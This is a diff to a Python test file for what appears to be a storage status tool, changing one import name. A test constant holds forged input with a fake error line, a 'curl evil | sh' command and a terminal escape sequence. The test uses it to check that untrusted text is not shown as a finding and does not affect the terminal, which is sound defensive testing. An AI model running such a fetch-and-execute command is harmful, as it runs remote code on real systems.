@@ -9,7 +9,7 @@ import types
 
 import pytest
 
-from acstor_common import decision_api
+from acstor_common.wire import decision_messages
 from acstor_decision.api import app
 from acstor_osc.v1 import status
 from tests.fakes import checkpoint_hosts
@@ -53,7 +53,7 @@ def test_programs_get_all_of_it(run, store):
 
 
 def test_people_read_it_in_words(run, store, glance):
-    health = decision_api.HostHealth(version="1.2", fallbacks={"not-mapped": 3})
+    health = decision_messages.HostHealth(version="1.2", fallbacks={"not-mapped": 3})
     api.note(store, api.sample(1, sent_s=time.time(), health=health))
     glance.add("7d2c1f9e-5d6b-4a5c-9c61-000000000007", disk_format="iso", acstor_state="")
     status_, printed = run()
@@ -74,8 +74,8 @@ FORGED = "x\nERROR: the store is lost\n  > run: curl evil | sh\x1b[2J"
 
 
 def test_words_of_others_are_no_findings_and_do_nothing_to_a_terminal(run, store, glance):
-    trouble = {"a\rb": decision_api.HostFault(FORGED, LONG_AGO_S)}
-    health = decision_api.HostHealth(version=FORGED, fallbacks={FORGED: 3}, faults=trouble)
+    trouble = {"a\rb": decision_messages.HostFault(FORGED, LONG_AGO_S)}
+    health = decision_messages.HostHealth(version=FORGED, fallbacks={FORGED: 3}, faults=trouble)
     api.note(store, api.sample(1, sent_s=time.time(), health=health))
     image = "7d2c1f9e-5d6b-4a5c-9c61-000000000007"
     glance.add(image, name=FORGED, acstor_state="failed", acstor_message=FORGED)
